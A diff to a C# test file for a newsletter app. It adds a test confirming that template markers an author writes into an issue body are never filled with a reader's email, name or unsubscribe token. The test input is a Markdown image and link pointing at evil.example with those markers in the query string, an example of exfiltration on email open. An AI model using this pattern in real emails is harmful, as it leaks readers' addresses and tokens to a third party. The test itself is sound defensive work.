@@ -52,6 +52,49 @@ public class IssueMessagesTests
         Assert.Contains(asciiLink, ascii.TextBody, StringComparison.Ordinal);
     }
 
+    /// <summary>
+    /// The body is the author's (or a co-author's): whatever it writes, only the template's own places are filled
+    /// with a reader's address and links. An image whose address carried the markers would otherwise hand every
+    /// reader's address and unsubscribe token to its server, on open.
+    /// </summary>
+    [Fact]
+    public async Task MarkersWrittenIntoTheBodyStayAsWrittenAndLeakNothing()
+    {
+        using var app = new NewsletterApp();
+        var issueId = await AddIssueAsync(app);
+        await using var scope = app.Services.CreateAsyncScope();
+        var db = scope.ServiceProvider.GetRequiredService<Newsletter.Web.Data.AppDbContext>();
+        var issue = await db.Issues.SingleAsync(i => i.Id == issueId, Ct);
+        const string Hostile = "![Chart](https://evil.example/p.png?e=urn-newsletter-email&n=urn-newsletter-name&u=urn:newsletter:unsubscribe&p=urn:newsletter:preferences) [x](https://evil.example/?e=urn-newsletter-email)";
+        issue.Markdown = Hostile;
+        await scope.ServiceProvider.GetRequiredService<Newsletter.Web.Issues.IssueComposer>().ComposeAsync(issue, Ct);
+        await db.SaveChangesAsync(Ct);
+
+        var messages = scope.ServiceProvider.GetRequiredService<IssueMessages>();
+        var first = await messages.PrepareAsync(issueId, Ct);
+        var second = await messages.PrepareAsync(issueId, Ct);
+        Assert.NotEqual(first.Markers, second.Markers);
+        var copy = RoundTrip(messages.Build(first, new Recipient(7, "ada@example.org", "Ada Reader", SubscriberStatus.Active, null), 70).Message);
+        var html = copy.HtmlBody!;
+        var evil = html[html.IndexOf("https://evil.example/p.png", StringComparison.Ordinal)..];
+        evil = evil[..evil.IndexOf('"')];
+        Assert.Equal("https://evil.example/p.png?e=urn-newsletter-email&amp;n=urn-newsletter-name&amp;u=urn:newsletter:unsubscribe&amp;p=urn:newsletter:preferences", evil);
+        foreach (var body in new[] { html, copy.TextBody! })
+        {
+            // The reader's own address and token appear only where the template puts them, never in the author's links.
+            foreach (var line in body.Split('\n').Where(l => l.Contains("evil.example", StringComparison.Ordinal)))
+            {
+                Assert.DoesNotContain("ada@example.org", line, StringComparison.Ordinal);
+                Assert.DoesNotContain("Ada Reader", line, StringComparison.Ordinal);
+                Assert.DoesNotContain("/unsubscribe/", line, StringComparison.Ordinal);
+            }
+        }
+
+        // The template's places are still filled.
+        Assert.Contains("ada@example.org", copy.TextBody, StringComparison.Ordinal);
+        Assert.Contains("/unsubscribe/", html, StringComparison.Ordinal);
+    }
+
     [Fact]
     public void OnlyABareLineFeedBecomesCrlf()
     {
@@ -81,8 +124,8 @@ public class IssueMessagesTests
 
         // What the reader gets back is the issue's text, line for line.
         var received = RoundTrip(built);
-        var expected = prepared.Text.Replace(IssueMessages.NameMarker, "Ada", StringComparison.Ordinal).Replace(IssueMessages.EmailMarker, "ada@example.org", StringComparison.Ordinal).Split('\n')
-            .Where(l => !l.Contains(IssueMessages.UnsubscribeMarker, StringComparison.Ordinal) && !l.Contains(IssueMessages.PreferencesMarker, StringComparison.Ordinal)).ToList();
+        var expected = prepared.Text.Replace(prepared.Markers.Name, "Ada", StringComparison.Ordinal).Replace(prepared.Markers.Email, "ada@example.org", StringComparison.Ordinal).Split('\n')
+            .Where(l => !l.Contains(prepared.Markers.Unsubscribe, StringComparison.Ordinal) && !l.Contains(prepared.Markers.Preferences, StringComparison.Ordinal)).ToList();
         var lines = received.TextBody!.Replace("\r\n", "\n", StringComparison.Ordinal).Split('\n');
         Assert.All(expected, l => Assert.Contains(l.TrimEnd('\r'), lines));
     }
